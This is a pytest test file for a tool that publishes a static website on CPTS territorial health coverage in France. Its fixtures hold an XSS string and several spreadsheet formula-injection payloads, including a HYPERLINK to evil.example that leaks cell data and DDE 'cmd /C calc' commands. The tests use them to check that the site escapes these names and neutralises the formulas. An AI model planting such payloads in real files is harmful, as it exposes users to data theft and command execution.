"""The static site: content, escaping, formula-safe downloads, changes between runs and a damaged
state, lock, targets refused before building, and atomicity when a run fails or is killed (the
first migration from a plain directory included). The published pages are also loaded in
headless Chromium from 127.0.0.1. The tests that publish are marked slow."""

from __future__ import annotations

import csv
import errno
import functools
import hashlib
import html
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
import traceback
import xml.etree.ElementTree as ET
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pandas as pd
import pytest
from helpers import ROOT, SEEDS

from cpts_geo import compare, coverage_timeline, load_communes, read_territories
from cpts_geo.cli import main
from cpts_geo.errors import CptsGeoWarning, PublishError, TerritoryError
from cpts_geo.io import readers
from cpts_geo.publishing import release as release_module
from cpts_geo.publishing import site as site_module
from cpts_geo.publishing.release import lock as _lock
from cpts_geo.publishing.site import publish

HOSTILE = "<img src=x onerror=alert(1)>"
#: CPTS names that a spreadsheet would run as formulas if the CSV downloads held them raw.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Cliquer")',
    "=cmd|' /C calc'!A0",
    "+33 4 77 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
CHROMIUM = Path("/usr/bin/chromium")


def _territories(tmp: Path, extra: list[tuple[str, str, str]] = ()) -> Path:
    seeds = pd.read_csv(SEEDS, dtype=str, keep_default_na=False)
    rows = seeds[["cpts", "insee", "status", "status_date", "source"]]
    if extra:
        rows = pd.concat([rows, pd.DataFrame(
            [(name, code, status, "", "test") for name, code, status in extra],
            columns=rows.columns)], ignore_index=True)
    path = tmp / "territories.csv"
    rows.to_csv(path, index=False)
    return path


def _tree_digest(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """One publication of the seeds plus hostile CPTS (HTML, spreadsheet formulas) on two Isère
    communes."""
    tmp = tmp_path_factory.mktemp("publish")
    terr = _territories(tmp, [(name, code, "pré-projet") for name in (HOSTILE, *FORMULAS)
                              for code in ("38185", "38151")])
    result = publish(terr, tmp / "site", progress=False)
    return tmp, result


@pytest.mark.slow
def test_site_layout_and_figures(site):
    tmp, result = site
    out = tmp / "site"
    assert out.is_symlink() and out.resolve() == result.release.resolve()
    # a web server running as another user can read the site (mkdtemp alone makes it 0700)
    assert result.release.stat().st_mode & 0o005 == 0o005
    assert result.departements == ["38", "42", "69"]
    for name in ("index.html", "map.html", "summary.json", "state.json",
                 "coverage_departements.csv", "cpts.geojson", "assets/leaflet.js",
                 "assets/style.css", "assets/sort.js"):
        assert (out / name).is_file(), name
    for dep in result.departements:
        for name in ("index.html", "map.html", "summary.json", "coverage.csv", "cpts.csv",
                     "gaps.csv", "gaps.geojson", "overlaps.csv", "communes.csv"):
            assert (out / "departements" / dep / name).is_file(), (dep, name)
    summary = json.loads((out / "summary.json").read_text("utf-8"))
    assert summary["vintage"] == {"cog_year": 2026, "population_year": 2026, "census_year": 2023}
    deps = {d["departement"]: d for d in summary["departements"]}
    assert len(deps) == 101
    assert deps["42"]["n_covered_communes"] == 25
    assert summary["pages"]["42"] == "departements/42/index.html"
    assert summary["changes"] == {"first_publication": True}
    loire = json.loads((out / "departements" / "42" / "summary.json").read_text("utf-8"))
    assert loire["coverage"]["n_covered_communes"] + loire["coverage"]["n_gap_communes"] == 320
    assert [c["cpts"] for c in loire["cpts"]] == ["Vallée du Gier"]
    # the downloads hold the same figures as the page
    cov = pd.read_csv(out / "departements" / "42" / "coverage.csv", dtype={"departement": str})
    assert cov.loc[0, "covered_population"] == loire["coverage"]["covered_population"]
    assert result.timings.keys() >= {"read_territories", "coverage", "departements", "swap"}


@pytest.mark.slow
def test_pages_link_each_departement_and_sort(site):
    tmp, _ = site
    index = (tmp / "site" / "index.html").read_text("utf-8")
    for dep in ("38", "42", "69"):
        assert f'href="departements/{dep}/index.html"' in index
    assert 'href="departements/75/index.html"' not in index  # no CPTS there
    assert index.count('class="sortable"') >= 4
    assert '<script src="assets/sort.js">' in index
    # nothing is loaded from the network (links to the sources of published figures are fine)
    assert not re.search(r'<(script|link|img|iframe)[^>]+(src|href)="https?://', index)
    page = (tmp / "site" / "departements" / "38" / "index.html").read_text("utf-8")
    assert 'src="map.html"' in page and "Zones sans CPTS" in page
    mapping = (tmp / "site" / "departements" / "38" / "map.html").read_text("utf-8")
    assert 'src="../../assets/leaflet.js"' in mapping
    assert not re.search(r'(src|href)="https?://', mapping)
    assert len(mapping.encode()) < 2_000_000


def test_departement_pages_show_the_timeline_and_the_funding(site):
    tmp, _ = site
    out = tmp / "site"
    page = (out / "departements" / "69" / "index.html").read_text("utf-8")
    assert "<h2>Couverture au fil du temps</h2>" in page
    svg = re.search(r"<svg.*?</svg>", page, re.S).group(0)
    ET.fromstring(svg)  # inline, well-formed, no script
    assert svg.count("<circle") == 2 and "<script" not in svg
    assert "+ Vénissieux → 3,4\u202f%" in svg and "+ Vallée du Gier → 3,5\u202f%" in svg
    assert "<td data-sort=\"2019-09-25\">25/09/2019</td><td>Vénissieux</td>" in page
    # the table, the download and the summary hold the figures of coverage_timeline
    with pytest.warns(CptsGeoWarning, match="no status_date"):
        expected = coverage_timeline(load_communes("69"),
                                     read_territories(tmp / "territories.csv"))
    table = pd.read_csv(out / "departements" / "69" / "timeline.csv", dtype={"departement": str})
    assert table["date"].tolist() == ["2019-09-25", "2023-12-07"]
    assert table["covered_population"].tolist() == expected["covered_population"].tolist()
    assert table["cpts_entered"].tolist() == ["Vénissieux", "Vallée du Gier"]
    summary = json.loads((out / "departements" / "69" / "summary.json").read_text("utf-8"))
    assert [r["coverage_rate"] for r in summary["timeline"]] == expected["coverage_rate"].tolist()
    # the hostile CPTS has no status date: named (as text), not counted, not dated
    isere = (out / "departements" / "38" / "index.html").read_text("utf-8")
    assert "CPTS sans date de statut, non comptées au fil du temps" in isere
    assert html.escape(HOSTILE) in isere.split("CPTS sans date de statut")[1][:300]
    undated = json.loads((out / "departements" / "38" / "summary.json").read_text("utf-8"))[
        "undated_cpts"]
    assert sorted(undated) == sorted([HOSTILE, *FORMULAS])
    # a funding column on the CPTS tables, with the sources of its amounts
    index = (out / "index.html").read_text("utf-8")
    for text in (index, page):
        assert "Financement ACI (règles de sa taille)" in text
        assert "jusqu’à 287\u202f000 €/an" in text and "ACI du 20 juin 2019" in text
        assert "plafond non établi" in text  # the Vallée du Gier, taille 3 under avenant 2
        assert "Missions, financement, montants : le b.a.-ba" in text
    # the hostile CPTS (Grenoble and Échirolles, taille 4, no date): the latest version
    assert "jusqu’à 580\u202f000 €/an" in index and "(lecture d’une fourchette publiée)" in index
    cpts = pd.read_csv(out / "cpts.csv").set_index("cpts")
    assert cpts.loc["Vénissieux", "max_annual_total_eur"] == 287_000
    assert cpts.loc["Vénissieux", "rules_version"] == "aci-2019"


@pytest.mark.slow
def test_hostile_names_are_text_everywhere(site):
    tmp, _ = site
    for page in ("index.html", "departements/38/index.html"):
        text = (tmp / "site" / page).read_text("utf-8")
        assert "<img" not in text
        assert html.escape(HOSTILE, quote=False) in text or html.escape(HOSTILE) in text
    mapping = (tmp / "site" / "departements" / "38" / "map.html").read_text("utf-8")
    assert "<img src=x" not in mapping


@pytest.mark.slow
@pytest.mark.browser
def test_published_pages_in_headless_chromium(site, tmp_path):
    if not CHROMIUM.exists():
        if os.environ.get("CPTS_GEO_REQUIRE_BROWSER") == "1":
            pytest.fail("chromium is missing but CPTS_GEO_REQUIRE_BROWSER=1")
        pytest.skip("chromium not installed")
    tmp, _ = site
    root = (tmp / "site").resolve()
    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(root))
    handler.log_message = lambda *a, **k: None  # type: ignore[method-assign]
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    base = f"http://127.0.0.1:{httpd.server_address[1]}"

    def chromium(url: str, *action: str) -> subprocess.CompletedProcess:
        return subprocess.run(
            [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu",
             "--disable-background-networking", "--disable-component-update", "--no-first-run",
             "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}",
             "--window-size=1200,900", "--virtual-time-budget=8000", "--enable-logging=stderr",
             "--v=0", "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1",
             *action, url],
            capture_output=True, text=True, timeout=90, check=False)

    try:
        artifacts = ROOT / "artifacts"
        artifacts.mkdir(exist_ok=True)
        shot = artifacts / "published_isere.png"
        page = chromium(f"{base}/departements/38/index.html", f"--screenshot={shot}")
        assert shot.is_file() and shot.stat().st_size > 20_000
        rhone = artifacts / "published_rhone_timeline.png"
        chromium(f"{base}/departements/69/index.html", f"--screenshot={rhone}",
                 "--window-size=1200,1600")
        assert rhone.is_file() and rhone.stat().st_size > 20_000
        timeline = chromium(f"{base}/departements/69/index.html", "--dump-dom")
        chart = re.search(r"<svg[^>]*class=\"timeline\".*?</svg>", timeline.stdout, re.S)
        assert chart and chart.group(0).count("<circle") == 2
        dom = chromium(f"{base}/departements/38/map.html", "--dump-dom")
        paths = re.findall(r'<path[^>]*class="leaflet-interactive"', dom.stdout)
        assert len(paths) > 512  # communes, CPTS, gap zones, outline
        index = chromium(f"{base}/index.html", "--dump-dom")
        assert "<img" not in index.stdout and "Couverture de la population" in index.stdout
        console = [line for r in (page, dom, index) for line in r.stderr.splitlines()
                   if ":CONSOLE" in line or "Uncaught" in line]
        assert console == []
    finally:
        httpd.shutdown()
        httpd.server_close()


@pytest.mark.slow
def test_a_second_concurrent_run_is_refused(tmp_path, capsys):
    out = tmp_path / "site"
    with _lock(out):
        with pytest.raises(PublishError, match=r"another publication .* is running"):
            publish(_territories(tmp_path), out, progress=False)
        assert main(["publish", "-t", str(_territories(tmp_path)), "--out", str(out)]) == 2
        assert "error: another publication" in capsys.readouterr().err
    assert not out.exists()


@pytest.mark.slow
def test_a_failed_run_leaves_the_previous_site_intact(site, tmp_path):
    tmp, result = site
    out = tmp / "site"
    before = _tree_digest(out)
    bad = tmp_path / "bad.csv"
    bad.write_text("cpts,commune\nA,42999\n", encoding="utf-8")
    with pytest.raises(TerritoryError, match="42999"):
        publish(bad, out, progress=False)
    assert out.resolve() == result.release.resolve()
    assert _tree_digest(out) == before
    assert not list((tmp / "site.releases").glob(".build-*"))


@pytest.mark.slow
def test_a_killed_run_leaves_the_previous_site_intact(site, monkeypatch):
    tmp, result = site
    out = tmp / "site"
    before = _tree_digest(out)
    releases = tmp / "site.releases"
    proc = subprocess.Popen(
        [sys.executable, "-m", "cpts_geo.cli", "publish", "-t", str(SEEDS), "--out", str(out),
         "--no-progress"],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 60
    while time.time() < deadline and not list(releases.glob(".build-*")):
        time.sleep(0.05)
    assert list(releases.glob(".build-*")), "the run never started building"
    time.sleep(1.0)  # well inside the build (the national map alone takes seconds)
    assert proc.poll() is None, proc.stderr.read()
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(10)
    assert out.resolve() == result.release.resolve()
    assert _tree_digest(out) == before
    # the lock died with the process: the next run succeeds and clears the killed build; it
    # validates and prepares its inputs once, and publishes the one département asked for
    calls = {"validate": 0, "prepare": 0}

    def counted(name, fn):
        def wrapper(*args, **kwargs):
            calls[name] += 1
            return fn(*args, **kwargs)
        return wrapper

    monkeypatch.setattr(readers, "validate_table", counted("validate", readers.validate_table))
    monkeypatch.setattr(site_module, "prepare", counted("prepare", site_module.prepare))
    again = publish(SEEDS, out, progress=False, departements="42")
    assert calls == {"validate": 1, "prepare": 1}
    assert again.departements == ["42"]
    assert sorted(p.name for p in (out / "departements").iterdir()) == ["42"]
    assert out.resolve() == again.release.resolve()
    assert not list(releases.glob(".build-*"))
    # its change report compares with the fixture's publication (the hostile CPTS are gone)
    ch = again.changes
    assert ch["first_publication"] is False and ch["vintage_changed"] is False
    assert sorted((c["cpts"], c["change"]) for c in ch["cpts"] if c["change"] != "unchanged") == [
        (name, "dissolved") for name in sorted([HOSTILE, *FORMULAS])]
    assert {(c["insee"], c["change"]) for c in ch["communes"]} == {
        ("38185", "left"), ("38151", "left")}
    assert [a["area"] for a in ch["areas"]] == ["38"] and ch["areas"][0]["delta"] < 0
    index = (out / "index.html").read_text("utf-8")
    assert "Communes sorties de la couverture : 2" in index and "Grenoble" in index
    # the report is the engine of compare(): the same CPTS and communes
    same = compare(load_communes(["38", "42", "69"]), read_territories(tmp / "territories.csv"),
                   read_territories(SEEDS)).to_dict()
    assert ch["cpts"] == same["cpts"] and ch["communes"] == same["communes"]


def _copy_as_plain_site(site_dir: Path, dest: Path) -> Path:
    """A plain directory holding a published site (as copied by hand or by an older version)."""
    shutil.copytree(site_dir.resolve(), dest, symlinks=False)
    return dest


def _is_complete(site: Path, departements: list[str]) -> bool:
    names = ["index.html", "map.html", "summary.json", "state.json", "coverage_departements.csv",
             "assets/leaflet.js"]
    names += [f"departements/{d}/{n}" for d in departements
              for n in ("index.html", "map.html", "summary.json", "cpts.csv")]
    return all((site / n).is_file() and (site / n).stat().st_size > 0 for n in names)


@pytest.mark.slow
def test_first_publication_over_a_plain_site_with_a_damaged_state(site, tmp_path):
    """A plain site directory (copied by hand, or by an older version) whose state.json is foreign
    JSON that used to crash the comparison: switched to a link, kept as the previous release,
    and the change report starts again with a warning."""
    tmp, _ = site
    out = _copy_as_plain_site(tmp / "site", tmp_path / "www")
    (out / "state.json").write_bytes(DAMAGED_STATES["rate-not-object"])
    before = _tree_digest(out)
    with pytest.warns(CptsGeoWarning, match=r"cannot be read .*'42' is not a number"):
        result = publish(SEEDS, out, progress=False, departements="42")
    assert out.is_symlink() and out.resolve() == result.release.resolve()
    assert _is_complete(out, ["42"])
    (legacy,) = [p for p in (tmp_path / "www.releases").iterdir() if p.name.endswith("-legacy")]
    assert _tree_digest(legacy) == before  # the old site, untouched, as the previous release
    assert result.changes == {"first_publication": True}
    assert "Première publication" in (out / "index.html").read_text("utf-8")
    assert json.loads((out / "state.json").read_text("utf-8"))["version"] == 1


@pytest.mark.slow
def test_a_first_migration_killed_at_the_switch_leaves_a_complete_site(site, tmp_path):
    """A real publication, killed (SIGKILL) right after the plain site and the link are exchanged:
    the moment when the old code left no site at all at --out."""
    tmp, _ = site
    out = _copy_as_plain_site(tmp / "site", tmp_path / "www")
    before = _tree_digest(out)
    pid = os.fork()
    if pid == 0:  # the child publishes and kills itself at the switch
        code = 0
        try:
            def checkpoint(name: str) -> None:
                if name == "exchanged":
                    os.kill(os.getpid(), signal.SIGKILL)

            release_module._checkpoint = checkpoint
            publish(SEEDS, out, progress=False, departements="42")
        except BaseException:
            traceback.print_exc()
            code = 3
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
    assert out.is_symlink() and _is_complete(out, ["42"])  # the new site, complete
    (stray,) = [p for p in tmp_path.iterdir() if p.name.endswith(".link")]
    assert _tree_digest(stray) == before  # the old one waits next to it
    again = publish(SEEDS, out, progress=False, departements="69")
    assert out.resolve() == again.release.resolve() and _is_complete(out, ["69"])
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".link")]
    (legacy,) = [p for p in (tmp_path / "www.releases").iterdir() if p.name.endswith("-legacy")]
    assert _tree_digest(legacy) == before


def _fake_release(tmp_path: Path, state: bytes | None, *, as_dir: bool = False) -> Path:
    out = tmp_path / "site"
    release = tmp_path / "site.releases" / "20260101T000000-1"
    release.mkdir(parents=True)
    (release / "index.html").write_text("old", encoding="utf-8")
    if as_dir:
        (release / "state.json").mkdir()
    elif state is not None:
        (release / "state.json").write_bytes(state)
    os.symlink("site.releases/20260101T000000-1", out)
    return out


VINTAGE = {"cog_year": 2026, "population_year": 2026, "census_year": 2023}
DAMAGED_STATES = {
    "truncated": b'{"version": 1, "vintage": {"cog_year": 2026, "popul',
    "empty": b"",
    "not-json": b"<html>502 Bad Gateway</html>",
    "not-utf8": b'{"version": 1, "nom": "\xff\xfe"}',
    "latin-1": '{"version": 1, "nom": "Hérault"}'.encode("latin-1"),
    "a-list": b"[1, 2, 3]",
    "another-tool": b'{"name": "my-site", "version": "2.3.1"}',
    "version-true": json.dumps({"version": True, "vintage": VINTAGE, "cpts": {},
                                "rates": {}}).encode(),
    "future-version": json.dumps({"version": 2, "cpts": {}, "rates": {}}).encode(),
    "no-vintage": json.dumps({"version": 1, "cpts": {}, "rates": {}}).encode(),
    # foreign content under the right version: each made diff() or the page crash before
    "rate-not-object": json.dumps({"version": 1, "vintage": VINTAGE, "cpts": {},
                                   "rates": {"42": "x"}}).encode(),
    "rate-text": json.dumps({"version": 1, "vintage": VINTAGE, "cpts": {},
                             "rates": {"42": {"nom": "Loire", "coverage_rate": "12%"}}}).encode(),
    "nested-commune": json.dumps({"version": 1, "vintage": VINTAGE, "rates": {},
                                  "cpts": {"a": {"cpts": "A", "communes": [["42218"]]}}}).encode(),
    "name-not-text": json.dumps({"version": 1, "vintage": VINTAGE, "rates": {},
                                 "cpts": {"a": {"cpts": {"x": 1}, "communes": []}}}).encode(),
    "names-list": json.dumps({"version": 1, "vintage": VINTAGE, "rates": {}, "cpts": {},
                              "names": ["x"]}).encode(),
    "nan-rate": b'{"version": 1, "vintage": {"cog_year": 2026, "population_year": 2026, '
                b'"census_year": 2023}, "cpts": {}, "rates": {"42": {"coverage_rate": NaN}}}',
    "deeply-nested": b"[" * 100_000 + b"]" * 100_000,
}


@pytest.mark.parametrize("state", list(DAMAGED_STATES), ids=list(DAMAGED_STATES))
def test_a_damaged_state_warns_and_restarts_the_change_report(tmp_path, state):
    out = _fake_release(tmp_path, DAMAGED_STATES[state])
    with pytest.warns(CptsGeoWarning, match=r"the state of the previous publication \(.*"
                      r"state.json\) cannot be read .*the change report starts again"):
        assert site_module._previous_state(out) is None
    assert site_module._changes(None, {}) == {"first_publication": True}


@pytest.mark.parametrize("kind", ["directory", "missing"])
def test_a_state_that_is_a_directory_or_missing_warns(tmp_path, kind):
    out = _fake_release(tmp_path, None, as_dir=kind == "directory")
    reason = "it is not a file" if kind == "directory" else "it is missing"
    with pytest.warns(CptsGeoWarning, match=rf"cannot be read \({reason}\)"):
        assert site_module._previous_state(out) is None


def test_no_previous_site_is_a_first_publication_without_warning(tmp_path, recwarn):
    assert site_module._previous_state(tmp_path / "site") is None
    assert not [w for w in recwarn if issubclass(w.category, CptsGeoWarning)]


def test_a_plain_site_directory_is_compared_with_its_state(tmp_path, recwarn):
    out = tmp_path / "www"
    out.mkdir()
    state = {"version": 1, "vintage": VINTAGE, "level": "departement", "names": {},
             "rates": {"42": {"nom": "Loire", "coverage_rate": 0.12}},
             "cpts": {"gier": {"cpts": "Vallée du Gier", "status": None, "status_date": None,
                               "communes": ["42218"], "shares": {}}}}
    (out / "state.json").write_text(json.dumps(state), encoding="utf-8")
    assert site_module._previous_state(out) == state
    assert not [w for w in recwarn if issubclass(w.category, CptsGeoWarning)]


@pytest.mark.slow
def test_csv_downloads_hold_no_live_formula(site):
    _, result = site  # the fixture's release (later tests publish again over its link)
    cells = []
    for path in sorted(result.release.rglob("*.csv")):
        with open(path, encoding="utf-8", newline="") as fh:
            cells += [(path.name, c) for row in csv.reader(fh) for c in row]
    live = []
    for name, cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            try:
                float(cell)  # a negative number is a number, not a formula
            except ValueError:
                live.append((name, cell))
    assert live == []
    texts = {c for _, c in cells}
    for formula in FORMULAS:  # the names are there, as text
        assert "'" + formula in texts, formula
    joined = [c for c in texts if "; " in c and FORMULAS[1] in c]  # overlaps: names in one cell
    assert joined and all(c[0] not in "=+-@" for c in joined)


def test_no_symbolic_links_is_refused_before_reading_anything(tmp_path, monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("the territories were read")

    def no_links(*args, **kwargs):
        raise OSError(errno.EPERM, "Operation not permitted")

    monkeypatch.setattr(site_module, "read_territories", never)
    monkeypatch.setattr(os, "symlink", no_links)
    with pytest.raises(PublishError, match=r"has no symbolic links"):
        publish(SEEDS, tmp_path / "site", progress=False)
    assert [p.name for p in (tmp_path / "site.releases").iterdir()] == ["publish.lock"]
    assert not os.path.lexists(tmp_path / "site")
